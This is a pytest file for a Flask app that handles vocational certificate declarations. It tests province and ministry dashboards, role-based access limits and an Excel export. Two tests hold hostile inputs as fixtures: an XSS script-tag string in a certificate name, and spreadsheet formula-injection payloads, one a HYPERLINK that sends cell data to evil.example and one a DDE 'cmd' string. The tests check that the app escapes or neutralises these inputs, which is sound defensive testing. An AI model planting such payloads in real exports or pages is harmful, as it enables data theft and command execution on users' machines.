"""Province and ministry dashboards, and the plan's Excel export, against a season with known outcomes."""
from __future__ import annotations

import io
import json
import re
from datetime import datetime
from urllib.parse import quote

from flask import Flask
from openpyxl import load_workbook
from sqlalchemy import select

from app import clock
from app.accounts.models import ROLE_SCHOOL, User
from app.declarations.models import Declaration
from app.demo import DEMO_PASSWORD
from app.extensions import db
from app.masterdata.models import Certificate, School
from app.plans import closure
from app.plans.models import DeclarationPlan
from app.processes.models import HumanTask
from tests.conftest import run_jobs
from tests.factories import certificate_id, complete_info, declaration_form, login, school, user, with_demo

WEB = "Web前端开发职业技能等级证书"
BIM = "建筑信息模型（BIM）职业技能等级证书"
LOGISTICS = "物流管理职业技能等级证书"


def _school_client(app: Flask, name: str):
    """Log in as the school, creating its account first when it has none."""
    s = school(app, name)
    with app.app_context():
        account = db.session.scalars(select(User).where(User.school_id == s.id)).first()
        if account is None:
            account = User(username=s.code, role=ROLE_SCHOOL, school_id=s.id, phone="13700000000",
                           province_code=s.province_code, city_code=s.city_code, display_name=s.name)
            account.set_password(DEMO_PASSWORD)
            db.session.add(account)
            db.session.commit()
        username = account.username
    client = app.test_client()
    assert login(client, username).status_code == 302
    complete_info(client)
    return client


def _declare(app: Flask, client, cert: str, level: str, action: str = "submit") -> int:
    response = client.post("/school/declarations/new", data={
        **declaration_form(app, certificate_id=str(certificate_id(app, cert[:6])), level=level), "action": action})
    assert response.status_code == 302, response.get_data(as_text=True)
    with app.app_context():
        return db.session.scalars(select(Declaration.id).order_by(Declaration.id.desc())).first()


def _decide(app: Flask, reviewer: str, declaration_id: int, decision: str, comment: str = "") -> None:
    client = app.test_client()
    login(client, reviewer)
    response = client.post(f"/review/declarations/{declaration_id}", data={"decision": decision, "comment": comment})
    assert response.status_code == 302, response.get_data(as_text=True)


def _season(app: Flask) -> dict[str, int]:
    """广东: 1 approved, 1 rejected, 1 pending (claimed by gd_reviewer), 1 draft; 江苏: 1 approved."""
    with_demo(app)
    zj = _school_client(app, "珠江信息职业学院")
    ids = {"approved": _declare(app, zj, WEB, "中级"), "rejected": _declare(app, zj, BIM, "初级")}
    ids["pending"] = _declare(app, _school_client(app, "岭南交通职业技术学院"), WEB, "初级")
    ids["draft"] = _declare(app, _school_client(app, "鹏城智能制造职业技术学院"), LOGISTICS, "中级", action="save")
    ids["js"] = _declare(app, _school_client(app, "金陵工程职业技术学院"), WEB, "中级")
    _decide(app, "gd_reviewer", ids["approved"], "approve")
    _decide(app, "gd_reviewer", ids["rejected"], "reject", "场地情况<不足>，请补充实训室照片")
    _decide(app, "js_reviewer", ids["js"], "approve")
    reviewer_id = user(app, "gd_reviewer").id
    with app.app_context():
        pending = db.session.get(Declaration, ids["pending"])
        task = db.session.scalars(select(HumanTask).where(HumanTask.instance_id == pending.instance_id,
                                                          HumanTask.completed_at.is_(None))).one()
        task.claimed_by_id = reviewer_id
        task.claimed_at = clock.now()
        ids["plan"] = pending.plan_id
        db.session.commit()
    run_jobs(app)
    return ids


def _table(html: str, table_id: str) -> list[list[str]]:
    body = re.search(rf'<table id="{table_id}">(.*?)</table>', html, re.S).group(1)
    return [[re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td>(.*?)</td>", row, re.S)]
            for row in re.findall(r"<tr>(.*?)</tr>", body, re.S) if "<td>" in row]


def _chart_data(html: str) -> dict:
    raw = re.search(r'<script type="application/json" id="dashboard-data">(.*?)</script>', html, re.S).group(1)
    return json.loads(raw)


def test_province_dashboard_counts_by_status_certificate_city_and_reviewer(app):
    ids = _season(app)
    admin = app.test_client()
    login(admin, "gd_admin")
    html = admin.get("/province/dashboard").get_data(as_text=True)
    assert dict(_table(html, "by-status")) == {"草稿": "1", "待审核": "1", "审核通过": "1", "审核不通过": "1", "已过期": "0"}
    assert sorted(_table(html, "by-certificate")) == sorted([[WEB, "2", "1", "1", "0"], [BIM, "1", "0", "0", "1"],
                                                             [LOGISTICS, "1", "0", "0", "0"]])
    assert sorted(_table(html, "by-city")) == [["广州市", "3", "1", "1", "1"], ["深圳市", "1", "0", "0", "0"]]
    assert _table(html, "reviewers") == [["广东省教育厅审核员", "gd_reviewer", "2", "1", "1", "1"]]
    assert re.search(r'id="total">4<', html) and re.search(r'id="waiting">1<', html)
    assert re.search(r'id="unclaimed">0<', html) and re.search(r'id="registered">3<', html)
    data = _chart_data(html)
    assert dict(zip(data["status"]["labels"], data["status"]["values"])) == {
        "草稿": 1, "待审核": 1, "审核通过": 1, "审核不通过": 1, "已过期": 0}
    assert dict(zip(data["groups"]["labels"], data["groups"]["values"])) == {"广州市": 3, "深圳市": 1}
    assert "金陵工程" not in html and "js_reviewer" not in html
    # The chart library is the vendored file, not a CDN.
    assert re.search(r'<script src="/static/vendor/echarts/echarts\.min\.js\?v=[0-9a-f]{12}"></script>', html)
    assert "cdn" not in html.lower()
    assert admin.get("/static/vendor/echarts/echarts.min.js").status_code == 200
    one_plan = admin.get(f"/province/dashboard?plan_id={ids['plan']}").get_data(as_text=True)
    assert re.search(r'id="total">4<', one_plan)
    with app.app_context():
        js_plan = db.session.scalars(select(DeclarationPlan.id).where(DeclarationPlan.province_code == "320000")).one()
    assert admin.get(f"/province/dashboard?plan_id={js_plan}").status_code == 404


def test_ministry_dashboard_covers_all_provinces_with_a_breakdown(app):
    _season(app)
    ministry = app.test_client()
    login(ministry, "ministry")
    html = ministry.get("/ministry/dashboard").get_data(as_text=True)
    assert re.search(r'id="total">5<', html)
    assert dict(_table(html, "by-status"))["审核通过"] == "2"
    assert _table(html, "by-province") == [["广东省", "4", "1", "1", "1", "3", "0"], ["江苏省", "1", "0", "1", "0", "1", "0"]]
    reviewers = {row[2]: row for row in _table(html, "reviewers")}
    assert reviewers["gd_reviewer"] == ["广东省", "广东省教育厅审核员", "gd_reviewer", "2", "1", "1", "1"]
    assert reviewers["js_reviewer"][3:] == ["1", "1", "0", "0"] and reviewers["sc_reviewer"][3:] == ["0", "0", "0", "0"]
    assert dict(zip(_chart_data(html)["groups"]["labels"], _chart_data(html)["groups"]["values"])) == {"广东省": 4, "江苏省": 1}
    gd_admin = app.test_client()
    login(gd_admin, "gd_admin")
    assert gd_admin.get("/ministry/dashboard").status_code == 403
    assert ministry.get("/province/dashboard").status_code == 403
    reviewer = app.test_client()
    login(reviewer, "gd_reviewer")
    assert reviewer.get("/province/dashboard").status_code == 403


def test_dashboard_data_is_escaped_json_not_markup(app):
    with_demo(app)
    with app.app_context():
        cert = Certificate(name='</script><script>alert("x")</script>证书', organization="某组织")
        db.session.add(cert)
        db.session.flush()
        s = db.session.scalars(select(School).where(School.name == "佛山工贸职业技术学院")).one()
        plan = db.session.scalars(select(DeclarationPlan).where(DeclarationPlan.province_code == "440000")).one()
        db.session.add(Declaration(plan_id=plan.id, school_id=s.id, province_code="440000", city_code=s.city_code,
                                   certificate_id=cert.id, level="初级", majors=[], trainee_count=10, teachers="t",
                                   facilities="f", status="待审核", submitted_at=clock.now()))
        db.session.commit()
    admin = app.test_client()
    login(admin, "gd_admin")
    html = admin.get("/province/dashboard").get_data(as_text=True)
    assert '<script>alert("x")' not in html
    assert _chart_data(html)["certificates"]["labels"] == ['</script><script>alert("x")</script>证书']


def test_export_has_chinese_headers_rows_and_results_of_the_admins_province_only(app):
    ids = _season(app)
    admin = app.test_client()
    login(admin, "gd_admin")
    plan_id = ids["plan"]
    response = admin.get(f"/province/dashboard/export?plan_id={plan_id}")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    with app.app_context():
        plan_name = db.session.get(DeclarationPlan, plan_id).name
        submitted = db.session.get(Declaration, ids["rejected"]).submitted_at
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;") and f"plan-{plan_id}-declarations.xlsx" in disposition
    assert f"filename*=UTF-8''{quote(plan_name + '-申报与审核结果.xlsx', safe='')}" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    book = load_workbook(io.BytesIO(response.get_data()))
    assert book.sheetnames == ["申报明细", "审核结果"]
    rows = list(book["申报明细"].iter_rows(values_only=True))
    assert rows[0] == ("院校名称", "学校标识码", "所在城市", "证书", "培训评价组织", "证书等级", "拟申请专业", "培训人数",
                       "师资情况", "场地情况", "状态", "提交时间", "审核时间", "审核意见")
    by_key = {(r[0], r[3], r[5]): r for r in rows[1:]}
    assert set(by_key) == {("珠江信息职业学院", WEB, "中级"), ("珠江信息职业学院", BIM, "初级"),
                           ("岭南交通职业技术学院", WEB, "初级"), ("鹏城智能制造职业技术学院", LOGISTICS, "中级")}
    rejected = by_key[("珠江信息职业学院", BIM, "初级")]
    assert rejected[1] == "9144010002" and rejected[2] == "广州市" and rejected[4] == "廊坊市中科建筑产业化创新研究中心"
    assert rejected[6] == "510201 计算机应用技术、510203 软件技术" and rejected[7] == 60
    assert rejected[10] == "审核不通过" and rejected[13] == "场地情况<不足>，请补充实训室照片"
    assert isinstance(rejected[11], datetime) and isinstance(rejected[12], datetime)
    assert rejected[11].strftime("%Y-%m-%d %H:%M") == clock.format_local(submitted)
    draft = by_key[("鹏城智能制造职业技术学院", LOGISTICS, "中级")]
    assert draft[10] == "草稿" and draft[11] is None and draft[2] == "深圳市"
    results = list(book["审核结果"].iter_rows(values_only=True))
    assert results[0] == ("院校名称", "申报证书数", "通过证书数", "是否试点院校")
    assert {r[0]: r[1:3] for r in results[1:]} == {"珠江信息职业学院": (2, 1), "岭南交通职业技术学院": (1, 0),
                                                   "鹏城智能制造职业技术学院": (1, 0)}
    assert {r[3] for r in results[1:]} == {"未出结果（审核截止后确定）"}
    # Once the results are computed the sheet says who became a 试点院校.
    with app.app_context():
        closure.close_plan(db.session(), plan_id)
        closure.compute_results(db.session(), plan_id)
        db.session.commit()
    book = load_workbook(io.BytesIO(admin.get(f"/province/dashboard/export?plan_id={plan_id}").get_data()))
    results = {r[0]: r[1:] for r in list(book["审核结果"].iter_rows(values_only=True))[1:]}
    assert results == {"珠江信息职业学院": (2, 1, "是"), "岭南交通职业技术学院": (1, 0, "否"),
                       "鹏城智能制造职业技术学院": (1, 0, "否")}
    assert "金陵工程职业技术学院" not in json.dumps(results, ensure_ascii=False)


def test_export_is_refused_outside_the_admins_province(app):
    ids = _season(app)
    other = app.test_client()
    login(other, "js_admin")
    assert other.get(f"/province/dashboard/export?plan_id={ids['plan']}").status_code == 404
    assert other.get("/province/dashboard/export").status_code == 404
    for username in ("gd_reviewer", "ministry", "zjxx_weekly"):
        client = app.test_client()
        login(client, username)
        assert client.get(f"/province/dashboard/export?plan_id={ids['plan']}").status_code == 403


FORMULA_LIKE = {
    "facilities": '=HYPERLINK("http://evil.example/?x="&A2,"点击查看详情")',
    "teachers": "+1+1 专任教师 8 人，持证 3 人",
    "comment": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_export_writes_formula_like_text_as_text(app):
    with_demo(app)
    client = _school_client(app, "珠江信息职业学院")
    declaration_id = _declare(app, client, WEB, "中级", action="save")
    response = client.post(f"/school/declarations/{declaration_id}/edit", data={
        **declaration_form(app, certificate_id=str(certificate_id(app, WEB[:6])), level="中级",
                           facilities=FORMULA_LIKE["facilities"], teachers=FORMULA_LIKE["teachers"]),
        "action": "submit"})
    assert response.status_code == 302, response.get_data(as_text=True)
    _decide(app, "gd_reviewer", declaration_id, "reject", FORMULA_LIKE["comment"])
    with app.app_context():
        plan_id = db.session.get(Declaration, declaration_id).plan_id
    admin = app.test_client()
    login(admin, "gd_admin")
    book = load_workbook(io.BytesIO(admin.get(f"/province/dashboard/export?plan_id={plan_id}").get_data()))
    sheet = book["申报明细"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[9].value == FORMULA_LIKE["facilities"])
    for cell, text in ((row[8], FORMULA_LIKE["teachers"]), (row[9], FORMULA_LIKE["facilities"]),
                       (row[13], FORMULA_LIKE["comment"])):
        assert cell.value == text, "the text reads as the school wrote it"
        assert cell.data_type == "s", f"{cell.coordinate} is stored as text, not as a formula"
        assert cell.quotePrefix, "Excel keeps it text even when the cell is edited"
